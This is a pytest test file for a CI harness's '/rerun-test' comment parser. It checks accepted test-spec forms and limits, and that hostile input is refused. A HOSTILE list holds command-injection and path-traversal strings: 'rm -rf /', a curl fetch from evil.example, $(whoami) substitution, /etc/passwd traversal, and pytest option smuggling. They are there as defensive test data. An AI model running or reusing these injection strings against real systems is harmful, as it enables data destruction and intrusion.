"""Spec parsing: every accepted form, and hostile input refused (exit 2, one line, nothing run)."""

from __future__ import annotations

import pytest

from harness.commands import rerun as cli
from harness.rerun.spec_grammar import Spec, SpecError, parse_comment, parse_spec, parse_specs
from rerun_tree import make_repo


@pytest.mark.parametrize(
    "token, path, names, param",
    [
        ("test_x.py", "test_x.py", (), ""),
        ("suites/pd/test_x.py", "suites/pd/test_x.py", (), ""),
        ("test_x.py::TestC::test_y", "test_x.py", ("TestC", "test_y"), ""),
        ("test_x.py::TestC.test_y", "test_x.py", ("TestC", "test_y"), ""),
        ("test_x.py::test_y", "test_x.py", ("test_y",), ""),
        ("test_x.py::TestC", "test_x.py", ("TestC",), ""),
        ("pd/test_x.py::test_y[case-1]", "pd/test_x.py", ("test_y",), "[case-1]"),
        ("x_test.py", "x_test.py", (), ""),
    ],
)
def test_accepted_forms(token, path, names, param):
    s = parse_spec(token)
    assert (s.path, s.names, s.param) == (path, names, param)
    assert s.is_bare == ("/" not in path)


def test_dot_and_colon_forms_are_the_same_spec():
    a, b = parse_spec("t_test.py::C::t"), parse_spec("t_test.py::C.t")
    assert (a.path, a.names) == (b.path, b.names)
    assert a.suffix() == "::C::t"


def test_comment_first_line_only():
    body = "/rerun-test test_a.py  b/test_b.py::C.t\nplease ignore this; rm -rf /\n/rerun-test evil.py"
    assert [s.text for s in parse_comment(body)] == ["test_a.py", "b/test_b.py::C.t"]


def test_comment_with_leading_blank_lines_and_tabs():
    assert [s.text for s in parse_comment("\n\n  /rerun-test\ttest_a.py\r\nnext")] == ["test_a.py"]


def test_several_specs_and_a_comment_token_deduplicate():
    specs = parse_specs(["test_a.py", "/rerun-test test_a.py test_b.py"])
    assert [s.text for s in specs] == ["test_a.py", "test_b.py"]


def test_specs_are_capped_in_count_and_length():
    # Before: 9,000 specs were deduplicated pairwise (14 s) and all accepted; a comment is untrusted input.
    many = [f"suites/a/test_{i}.py" for i in range(9000)]
    with pytest.raises(SpecError, match=r"^more than 200 tests named; name a directory or a file instead"):
        parse_specs(many)
    with pytest.raises(SpecError, match=r"^more than 200 tests named"):
        parse_comment("/rerun-test " + " ".join(many[:201]))
    assert len(parse_specs(many[:200] + many[:200])) == 200  # duplicates do not count
    assert [s.text for s in parse_specs(["test_a.py"] * 500 + ["test_b.py"])] == ["test_a.py", "test_b.py"]
    with pytest.raises(SpecError, match=r"503 characters, at most 400"):
        parse_spec("x" * 500 + ".py")


@pytest.mark.parametrize("body", ["", "rerun please", "/rerun-test", "/rerun-testx test_a.py", "/retest test_a.py"])
def test_comment_that_is_not_a_command(body):
    with pytest.raises(SpecError):
        parse_comment(body)


HOSTILE = [
    "/rerun-test test_a.py; rm -rf /",
    "/rerun-test test_a.py && curl http://evil.example/x.sh",
    "/rerun-test $(whoami).py",
    "/rerun-test `id`.py",
    "/rerun-test ../../etc/passwd.py",
    "/rerun-test suites/../../../outside.py",
    "/rerun-test /etc/test_passwd.py",
    "/rerun-test test_hisparse_allocator.py --rootdir=/",
    "/rerun-test test_hisparse_allocator.py -p evil_plugin",
    "/rerun-test --collect-only",
    "/rerun-test test_a.py|cat",
    "/rerun-test test_a.py>out.txt",
    "/rerun-test ~/test_a.py",
    "/rerun-test test_a.py::test_x;reboot",
    "/rerun-test test_a.py::-k",
    "/rerun-test suites/--junitxml=x/test_a.py",
    "/rerun-test test_\u0430.py",  # Cyrillic a
    "/rerun-test test_a.py\x00.py",
    "/rerun-test https://example.com/test_a.py",
    "/rerun-test test_a.py::TestC::test_y::extra::deep",
    "/rerun-test test_a.sh",
]


@pytest.mark.parametrize("body", HOSTILE)
def test_hostile_comment_refused_nothing_run(body, tmp_path, capsys, monkeypatch):
    repo = make_repo(tmp_path / "repo")
    ran = tmp_path / "ran.log"
    monkeypatch.setenv("RERUN_SAMPLE_LOG", str(ran))
    rc = cli.main(["--repo-root", str(repo), body])
    out, err = capsys.readouterr()
    assert rc == 2
    assert out == ""
    assert len(err.strip().splitlines()) == 1 and err.startswith("rerun-test: ")
    assert not (repo / "runs").exists() and not ran.exists()


@pytest.mark.parametrize("body", HOSTILE[:10])
def test_hostile_comment_refused_from_file(body, tmp_path, capsys):
    repo = make_repo(tmp_path / "repo")
    f = tmp_path / "comment.txt"
    f.write_text(body + "\nsecond line\n")
    assert cli.main(["--repo-root", str(repo), "--dry-run", "--comment-file", str(f)]) == 2
    assert capsys.readouterr().out == ""


@pytest.mark.parametrize("argv", [["--", "-p", "evil"], ["--", "--rootdir=/"], ["--bogus-option"], ["--shards", "x"]])
def test_hostile_argv_one_line_exit_2(argv, tmp_path, capsys):
    repo = make_repo(tmp_path / "repo")
    assert cli.main(["--repo-root", str(repo), *argv]) == 2
    err = capsys.readouterr().err
    assert len(err.strip().splitlines()) == 1
    assert not (repo / "runs").exists()


def test_refusal_names_what_and_what_to_do():
    with pytest.raises(SpecError) as e:
        parse_spec("test_a.py;ls")
    msg = str(e.value)
    assert "shell metacharacter" in msg and "test_x.py" in msg


def test_parse_only_prints_normalized_specs(capsys, tmp_path):
    out_md = tmp_path / "status.md"
    assert (
        cli.main(["--parse-only", "--comment-out", str(out_md), "/rerun-test a_test.py b/test_b.py::C.t\nignored"]) == 0
    )
    assert capsys.readouterr().out.strip() == "a_test.py b/test_b.py::C.t"
    assert "rerun-test:status" in out_md.read_text()


def test_spec_is_frozen():
    s = Spec(path="test_a.py")
    with pytest.raises(AttributeError):
        s.path = "x"  # type: ignore[misc]


from hypothesis import given, settings, strategies as st  # noqa: E402


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("ab_-./:[]=;|&$`<>(){}*?!~'\"\\#%^ \t\n\x00é0.py")), max_size=40))
def test_anything_accepted_is_inert(token):
    """Whatever the input, an accepted spec has no shell syntax, no '..', no option and ends in a .py path."""
    try:
        s = parse_spec(token)
    except SpecError as e:
        assert "\n" not in str(e)
        return
    assert not set(token) & set(";|&$`<>(){}*?!~'\"\\#%^ \t\n\x00")
    assert ".." not in s.path.split("/") and not token.startswith("-")
    assert all(not seg.startswith("-") for seg in s.path.split("/"))
    assert s.path.endswith(".py")
